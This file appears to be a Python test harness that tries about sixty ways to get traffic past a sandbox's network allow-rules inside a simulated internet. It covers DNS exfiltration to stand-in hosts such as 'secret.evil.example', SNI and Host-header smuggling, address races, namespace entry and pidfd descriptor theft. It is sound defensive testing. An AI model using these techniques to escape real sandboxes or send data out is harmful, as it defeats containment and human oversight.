#!/usr/bin/env python3
"""Attempts to reach what no rule names: attacks.py LOG SBX [NAME...]

Runs in an internet of a test's own (internet.py), whose log is LOG. Each attempt is a function below. It runs inside
`SBX run` with the rules of its flags, and tries to reach or to tell somebody outside. What arrived is in the log: an
attempt is through if that has a line which the attempt's rules do not allow. Each class has a control that is allowed,
so that silence means something. The names of attempts that are through are printed, and the status is their number.
"""
import ctypes, os, pathlib, re, socket, ssl, struct, subprocess, sys, threading, time

RULES = ["--connect", "allowed.example:80,443", "--connect", "*.wild.example:80", "--connect", "203.0.113.15:80"]
ALLOWED, OTHER, PRIVATE = "203.0.113.10", "203.0.113.11", "10.0.0.1"
LIBC = ctypes.CDLL(None, use_errno=True)
attempts = []


def attempt(flags=(), seen=(), control=False):
    """Registers a function. `seen`: lines of the log that the rules allow. `control`: at least one has to be there."""

    def register(function):
        attempts.append((function.__name__, function, list(flags), list(seen), control))
        return function

    return register


def quietly(function):
    """Calls it, whatever it raises."""
    try:
        return function()
    except (OSError, ValueError, UnicodeError, EOFError):
        return None


def tcp(address, port, data=b"GET / HTTP/1.0\r\n\r\n", family=socket.AF_INET, kind=socket.SOCK_STREAM, proto=0):
    def talk():
        with socket.socket(family, kind, proto) as s:
            s.settimeout(3)
            s.connect((address, port))
            s.sendall(data)
            return s.recv(100)

    return quietly(talk)


def question(labels, kind=1, ident=7):
    name = b"".join(bytes([len(label)]) + label for label in labels)
    return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 0) + name + struct.pack(">BHH", 0, kind, 1)


def ask(labels, kind=1, server="203.0.113.53"):
    def talk():
        with socket.socket(type=socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.sendto(question(labels, kind), (server, 53))
            return s.recv(512)

    return quietly(talk)


def address_of(name):
    answer = quietly(lambda: socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM))
    return answer[0][4][0] if answer else None


def hello(names, pieces=None, pause=0.0, extensions=b""):
    """A ClientHello with these server names, sent to the address of allowed.example in pieces."""
    entries = b"".join(b"\0" + struct.pack(">H", len(name)) + name for name in names)
    sni = struct.pack(">HHH", 0, len(entries) + 2, len(entries)) + entries if names else b""
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack(">H", 2) + b"\x13\1" + b"\1\0"
    body += struct.pack(">H", len(sni) + len(extensions)) + sni + extensions
    handshake = b"\1" + struct.pack(">I", len(body))[1:] + body
    record = b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake
    send("allowed.example", 443, record, pieces, pause)


def send(host, port, data, pieces=None, pause=0.0):
    def talk():
        with socket.create_connection((host, port), timeout=5) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            step = pieces or len(data)
            for at in range(0, len(data), step):
                s.sendall(data[at : at + step])
                time.sleep(pause)
            return s.recv(100)

    return quietly(talk)


def http(head):
    return send("allowed.example", 80, head.encode("latin-1"))


SEEN_TLS = [f"connection {ALLOWED} 443", f"bytes {ALLOWED} 443", "question allowed.example"]
SEEN_HTTP = [f"connection {ALLOWED} 80", f"bytes {ALLOWED} 80", "question allowed.example"]
SEEN_ADDRESS = ["connection 203.0.113.15 80", "bytes 203.0.113.15 80"]
SEEN_BELOW = ["connection 203.0.113.12 80", "bytes 203.0.113.12 80", "question www.wild.example"]
# A host that is allowed may be connected to. What is said to another one must not arrive.
CONNECTED = [f"connection {ALLOWED} 443", f"connection {ALLOWED} 80", "question allowed.example"]


# Controls.
@attempt(seen=SEEN_TLS, control=True)
def an_allowed_name_by_tls():
    hello([b"allowed.example"])


@attempt(seen=SEEN_HTTP, control=True)
def an_allowed_name_by_http():
    http("GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")


@attempt(seen=SEEN_BELOW, control=True)
def a_name_below_a_pattern():
    send("www.wild.example", 80, b"GET / HTTP/1.1\r\nHost: www.wild.example\r\n\r\n")


@attempt(seen=SEEN_ADDRESS, control=True)
def an_allowed_address():
    tcp("203.0.113.15", 80)


# Names.
@attempt()
def a_nul_in_a_label():
    ask([b"evil", b"example\0", b"allowed", b"example"]), ask([b"evil.example\0.allowed", b"example"])


@attempt()
def a_dot_in_a_label():
    ask([b"evil", b"www.wild", b"example"]), ask([b"allowed.example"]), ask([b"secret.evil.example"])


@attempt()
def names_that_only_look_alike():
    for name in ("evilallowed.example", "allowed.example.evil.example", "allowed.exampl", "allowed-example",
                 "allowed.example.wild.example.evil", "wild.example", "xwild.example", "allowed_example"):
        address_of(name)
        send(name, 80, b"GET / HTTP/1.0\r\n\r\n")


@attempt()
def a_name_below_an_exact_one():
    address_of("secret.allowed.example"), ask([b"secret", b"allowed", b"example"], 16)


@attempt()
def odd_characters():
    for label in (b"a b", b"a/b", b"a@b", b"a%00b", b"a\nb", b"\xff\xfe", b"a*b", b"*", b"-a", b"a-"):
        ask([label, b"www", b"wild", b"example"])


@attempt()
def a_name_that_is_too_long():
    ask([b"a" * 63] * 4 + [b"www", b"wild", b"example"]), ask([b"a" * 63] * 20)


@attempt()
def other_scripts():
    address_of("bücher.example"), address_of("аllowed.example"), address_of("allowed。evil.example")


@attempt()
def every_type_of_question():
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 64, 65, 251, 252, 255, 65535):
        ask([b"secret", b"evil", b"example"], kind), ask([b"allowed", b"example"], kind)


@attempt()
def questions_by_tcp():
    def talk(server):
        with socket.create_connection((server, 53), timeout=3) as s:
            for name in ([b"secret", b"evil", b"example"], [b"allowed", b"example"]):
                data = question(name)
                s.sendall(struct.pack(">H", len(data)) + data)
                s.recv(512)

    for server in ("203.0.113.53", "8.8.8.8", "127.0.0.1"):
        quietly(lambda: talk(server))


@attempt()
def questions_to_other_servers():
    for server in ("203.0.113.53", "203.0.113.10", "8.8.8.8", "127.0.0.53", "198.18.0.1", "255.255.255.255"):
        ask([b"secret", b"evil", b"example"], server=server)


@attempt()
def several_questions_in_one_message():
    data = question([b"allowed", b"example"])
    more = data[:4] + struct.pack(">H", 2) + data[6:] + b"\6secret\4evil\7example\0\0\1\0\1"
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.sendto(more, ("203.0.113.53", 53))
        time.sleep(0.3)


@attempt()
def malformed_questions():
    good = question([b"secret", b"evil", b"example"])
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        loop = good[:12] + b"\xc0\x0c\0\1\0\1"
        for data in (b"", b"\0", good[:11], good[:20], good[:12] + b"\x3f" + good[13:], loop,
                     good[:2] + b"\x28\0" + good[4:], good[:2] + b"\x81\x80" + good[4:], good + bytes(3000)):
            quietly(lambda: s.sendto(data, ("203.0.113.53", 53)))
        time.sleep(0.3)


@attempt()
def a_flood_of_questions():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        for number in range(3000):
            quietly(lambda: s.sendto(question([b"x%d" % number, b"evil", b"example"]), ("203.0.113.53", 53)))
        time.sleep(0.5)


@attempt()
def reverse_questions():
    ask([b"11", b"113", b"0", b"203", b"in-addr", b"arpa"], 12), ask([b"secret", b"in-addr", b"arpa"], 12)


@attempt(seen=SEEN_BELOW)
def exhausted_names():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(0.01)
        for number in range(20000):
            quietly(lambda: s.sendto(question([b"n%d" % number, b"wild", b"example"]), ("203.0.113.53", 53)))
            if number % 50 == 0:
                quietly(lambda: s.recv(512))
    send("other.example", 80, b"GET / HTTP/1.0\r\n\r\n")


# Addresses.
@attempt()
def the_address_of_an_allowed_name():
    tcp(ALLOWED, 80), tcp(ALLOWED, 443)


@attempt()
def other_ports_of_an_allowed_name():
    found = address_of("allowed.example")
    for port in (7, 22, 25, 81, 444, 8443, 65535):
        tcp(found, port)


@attempt()
def synthetic_addresses_of_nobody():
    address_of("allowed.example")
    for last in range(1, 40):
        tcp(f"198.18.0.{last}", 7), tcp(f"198.19.255.{last}", 80)


@attempt()
def other_addresses():
    for address in (OTHER, PRIVATE, "169.254.169.254", "8.8.8.8", "224.0.0.1", "255.255.255.255", "203.0.113.53"):
        for port in (53, 80, 443):
            tcp(address, port, b"x")


@attempt()
def numbers_for_addresses():
    for text in ("0xcb00710b", "3405803787", "0313.0.0161.013", "203.0.28939", "0x7f.1", "2130706433", "127.1"):
        quietly(lambda: socket.create_connection((text, 80), timeout=2).sendall(b"x"))


@attempt()
def addresses_of_ipv6():
    for address in (f"::ffff:{OTHER}", f"::{OTHER}", "64:ff9b::203.0.113.11", "2002:cb00:710b::1", "2001:db8::10",
                    "::ffff:198.18.0.9", "fe80::1%lo", "ff02::1", "2001:0:cb00:710b::"):
        for port in (80, 443):
            quietly(lambda: socket.create_connection((address, port), timeout=2).sendall(b"x"))


@attempt()
def the_brokers_own_ports():
    address_of("allowed.example")
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for row in pathlib.Path(table).read_text().splitlines()[1:]:
            ports.add(int(row.split()[1].rsplit(":", 1)[1], 16))
    for port in ports:
        for address in ("127.0.0.1", "198.18.0.2", "198.18.0.3", OTHER, PRIVATE, "0.0.0.0"):
            tcp(address, port)
        tcp("::1", port, family=socket.AF_INET6), tcp(f"::ffff:{OTHER}", port, family=socket.AF_INET6)


@attempt()
def fast_open():
    address_of("allowed.example")
    for address in (OTHER, "198.18.0.2", PRIVATE):
        for port in (80, 443):
            with socket.socket() as s:
                quietly(lambda: s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (address, port)))
                quietly(lambda: s.recv(10))


@attempt()
def odd_lengths_of_addresses():
    packed = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
    for length in (0, 1, 2, 4, 8, 15, 16, 28, 100, 128, 129, 2**31):
        with socket.socket() as s:
            s.settimeout(1)
            LIBC.connect(s.fileno(), packed + bytes(200), length)
            quietly(lambda: s.send(b"x"))


@attempt()
def families_that_do_not_fit():
    for family in (0, 1, 2, 10, 16, 40, 255, 65535):
        packed = struct.pack("HH4s", family, socket.htons(80), socket.inet_aton(OTHER)) + bytes(24)
        for kind in (socket.AF_INET, socket.AF_INET6):
            with socket.socket(kind) as s:
                s.settimeout(1)
                LIBC.connect(s.fileno(), packed, len(packed))
                quietly(lambda: s.send(b"x"))


@attempt(seen=SEEN_ADDRESS)
def an_address_that_changes_meanwhile():
    buffer = ctypes.create_string_buffer(16)
    good = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton("203.0.113.15"))
    bad = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
    over = []

    def spin():
        while not over:
            buffer.raw = good
            buffer.raw = bad

    threading.Thread(target=spin, daemon=True).start()
    for _ in range(150):
        with socket.socket() as s:
            s.settimeout(1)
            LIBC.connect(s.fileno(), buffer, 16)
            quietly(lambda: s.send(b"x"))
    over.append(1)


@attempt(seen=SEEN_ADDRESS)
def a_socket_that_is_exchanged_meanwhile():
    with socket.socket() as s, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
        spare, over = os.dup(s.fileno()), []

        def spin():
            while not over:
                os.dup2(other.fileno(), s.fileno())
                os.dup2(spare, s.fileno())

        threading.Thread(target=spin, daemon=True).start()
        for _ in range(100):
            quietly(lambda: s.connect((OTHER, 9)))
            quietly(lambda: s.connect(("203.0.113.15", 80)))
            quietly(lambda: other.send(b"x"))
        over.append(1)


@attempt(seen=SEEN_ADDRESS)
def connect_again():
    with socket.socket() as s:
        quietly(lambda: s.connect(("203.0.113.15", 80)))
        LIBC.connect(s.fileno(), bytes(16), 16)
        quietly(lambda: s.connect((OTHER, 80)))
        quietly(lambda: s.send(b"GET / HTTP/1.0\r\n\r\n"))


@attempt()
def connections_that_do_not_wait():
    for address in (OTHER, PRIVATE, "198.18.0.77"):
        with socket.socket() as s:
            s.setblocking(False)
            s.connect_ex((address, 80))
            time.sleep(0.2)
            quietly(lambda: s.send(b"x"))


# What is said.
@attempt(seen=CONNECTED)
def another_server_name():
    hello([b"shared.example"]), hello([b"other.example"]), hello([b"www.wild.example"])


@attempt(seen=CONNECTED)
def no_server_name():
    hello([]), hello([b""])


@attempt(seen=CONNECTED)
def two_server_names():
    hello([b"allowed.example", b"shared.example"]), hello([b"shared.example", b"allowed.example"])


@attempt(seen=CONNECTED)
def server_names_with_odd_characters():
    for name in (b"shared.example\0.allowed.example", b"allowed.example\0.shared.example", b"allowed.example/",
                 b" allowed.example", b"allowed.example ", b"allowed..example", b"shared.example.allowed.example"):
        hello([name])


@attempt(seen=CONNECTED)
def another_server_name_in_pieces():
    hello([b"shared.example"], pieces=1), hello([b"shared.example"], pieces=7, pause=0.05)


@attempt(seen=CONNECTED)
def another_server_name_behind_a_second_extension():
    entry = b"\0" + struct.pack(">H", 14) + b"shared.example"
    more = struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    hello([b"allowed.example"], extensions=more), hello([], extensions=more)


@attempt(seen=CONNECTED)
def no_tls_on_its_port():
    send("allowed.example", 443, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
    send("allowed.example", 443, b"SSH-2.0-x\r\n"), send("allowed.example", 443, bytes(100))


@attempt(seen=CONNECTED)
def records_without_end():
    send("allowed.example", 443, b"\x16\3\1\x40\0\1\0\xff\xff" + bytes(40000), pieces=4000)


@attempt(seen=CONNECTED)
def another_host():
    for head in ("Host: shared.example", "host:shared.example", "HOST:\tshared.example", "Host: other.example:80",
                 "Host: allowed.example@shared.example", "Host: allowed.example.shared.example", "Host: ", "X: y",
                 "Host: allowed.example\r\nHost: shared.example", "Host: shared.example\r\nHost: allowed.example",
                 "Host : allowed.example", "Host: allowed.example, shared.example", "Host: allowed.example\0shared"):
        http(f"GET / HTTP/1.1\r\n{head}\r\n\r\n")


@attempt(seen=CONNECTED)
def another_target():
    for target in ("http://shared.example/", "HTTP://Shared.Example/", "http://allowed.example@shared.example/"):
        http(f"GET {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    http("CONNECT shared.example:443 HTTP/1.1\r\nHost: shared.example:443\r\n\r\n")


@attempt(seen=CONNECTED)
def requests_in_old_forms():
    for head in ("GET /\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "GET / HTTP/1.1\n\nHost: allowed.example\n\n",
                 "GET / HTTP/1.1\r\nX: y\r\n Host: allowed.example\r\n\r\n", "\0\0\0\0\r\n\r\n", "PRI * HTTP/2.0\r\n\r\n"):
        http(head)


@attempt(seen=CONNECTED)
def a_head_without_end():
    send("allowed.example", 80, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000, pieces=60000)


# Names that lead elsewhere.
@attempt(flags=["--connect", "private.example:80", "--connect", "metadata.example:80", "--connect", "loop.example:80"],
         seen=["question private.example", "question metadata.example", "question loop.example"])
def names_that_lead_to_private_addresses():
    for name in ("private.example", "metadata.example", "loop.example"):
        send(name, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())


# Other ways.
@attempt()
def datagrams():
    for address in (ALLOWED, OTHER, "198.18.0.2", "203.0.113.53", "255.255.255.255", "127.0.0.1"):
        for port in (9, 53, 80, 443):
            with socket.socket(type=socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                quietly(lambda: s.sendto(b"secret", (address, port)))
                quietly(lambda: s.connect((address, port)))
                quietly(lambda: s.send(b"secret"))


@attempt()
def other_protocols():
    for family in (2, 10, 16, 17, 30, 31, 38, 40, 43, 44):
        for kind in (1, 2, 3, 5, 10):
            for proto in (0, 1, 58, 132, 136, 255, 262):
                def talk():
                    with socket.socket(family, kind, proto) as s:
                        s.settimeout(0.2)
                        s.connect((OTHER if family != 10 else f"::ffff:{OTHER}", 80))
                        s.send(b"secret")

                try:
                    talk()
                except (OSError, TypeError, ValueError, OverflowError):
                    pass


@attempt()
def options_of_sockets():
    with socket.socket() as s:
        for level, option, value in ((0, 19, 1), (41, 75, 1), (1, 36, 1), (6, 19, 1), (1, 25, b"eth0\0"), (6, 31, b"smc\0"),
                                     (6, 42, 1)):
            quietly(lambda: s.setsockopt(level, option, value))
        s.settimeout(1)
        quietly(lambda: s.connect((OTHER, 80)))
        quietly(lambda: s.send(b"x"))


@attempt()
def routes_and_interfaces():
    def change(kind, flags, body):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
            s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
            s.settimeout(1)
            s.recv(4096)

    route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("HHI", 8, 4, 1)
    quietly(lambda: change(25, 5, route))
    quietly(lambda: change(16, 5, struct.pack("BBHiII", 0, 0, 0, 1, 0, 1)))
    tcp(OTHER, 80), ask([b"secret", b"evil", b"example"])


@attempt()
def other_namespaces():
    for flags in (0x40000000, 0x10000000 | 0x40000000):
        LIBC.unshare(flags)
    for process in os.listdir("/proc"):
        if process.isdigit():
            def enter():
                handle = os.open(f"/proc/{process}/ns/net", os.O_RDONLY)
                LIBC.setns(handle, 0)
                os.close(handle)

            quietly(enter)
    tcp(OTHER, 80)


@attempt()
def the_broker_as_a_process():
    for process in range(1, 400):
        quietly(lambda: os.kill(process, 0) if process != os.getpid() else None)
        for number in range(0, 12):
            def take():
                handle = LIBC.syscall(434, process, 0)
                if handle >= 0:
                    LIBC.syscall(438, handle, number, 0)
                    os.close(handle)

            quietly(take)
    tcp(OTHER, 80)


@attempt()
def a_ring():
    LIBC.syscall(425, 8, ctypes.create_string_buffer(120))
    tcp(OTHER, 80)


@attempt()
def sockets_of_unix():
    for name in ("\0abstract", "/run/docker.sock", "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"):
        with socket.socket(socket.AF_UNIX) as s:
            quietly(lambda: s.connect(name))


@attempt()
def variables_for_proxies():
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        os.environ[name] = "*" if name == "NO_PROXY" else f"http://{OTHER}:80"
    quietly(lambda: subprocess.run(["curl", "-sS", "-m", "3", "http://other.example/"], capture_output=True))


@attempt()
def a_run_inside():
    words = [os.environ["SBX_PROGRAM"], "run", "-q", "--net", "host", "--", "curl", "-sS", "-m", "3", f"http://{OTHER}/"]
    quietly(lambda: subprocess.run(words, capture_output=True))


@attempt(seen=SEEN_HTTP)
def many_connections():
    held = [quietly(lambda: socket.create_connection(("allowed.example", 80), timeout=3)) for _ in range(600)]
    tcp(OTHER, 80)
    del held


@attempt(seen=SEEN_HTTP)
def a_server_in_the_place_of_a_host():
    def serve():
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((address_of("allowed.example"), 80))
            s.listen()

    quietly(serve)
    tcp(OTHER, 80)


@attempt(seen=SEEN_HTTP)
def bytes_after_the_end():
    def talk():
        with socket.create_connection(("allowed.example", 80), timeout=3) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
            s.shutdown(socket.SHUT_WR)
            s.recv(1000)
            LIBC.connect(s.fileno(), bytes(16), 16)
            s.connect((OTHER, 80))
            s.send(b"x")

    quietly(talk)


def main():
    if sys.argv[1] == "inside":
        next(function for name, function, *_ in attempts if name == sys.argv[2])()
        return 0
    log, sbx, wanted = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3:]
    through = []
    for name, _, flags, seen, control in attempts:
        if wanted and name not in wanted:
            continue
        before = len(log.read_text().splitlines())
        words = [sbx, "run", "-q", "--timeout", "60s", "--env", f"SBX_PROGRAM={sbx}", *RULES, *flags, "--",
                 "/usr/bin/python3", sys.argv[0], "inside", name]
        ran = subprocess.run(words, capture_output=True, text=True)
        time.sleep(0.05)
        arrived = log.read_text().splitlines()[before:]
        # Lines about the servers that a rule names are allowed in every attempt that says so, and in no other.
        odd = [line for line in arrived if not any(line == one or line.startswith(f"{one} ") for one in seen)]
        silent = control and not any(line.startswith("bytes ") for line in arrived)
        broken = ran.returncode not in (0, 124) or "Traceback" in ran.stderr
        if odd or silent or broken:
            through.append(name)
            print("through" if odd else "silent" if silent else f"broken ({ran.returncode})", name, *odd[:5], ran.stderr[-600:])
    print(len(attempts) if not wanted else len(wanted), "attempts,", len(through), "through")
    return len(through)


if __name__ == "__main__":
    sys.exit(main())
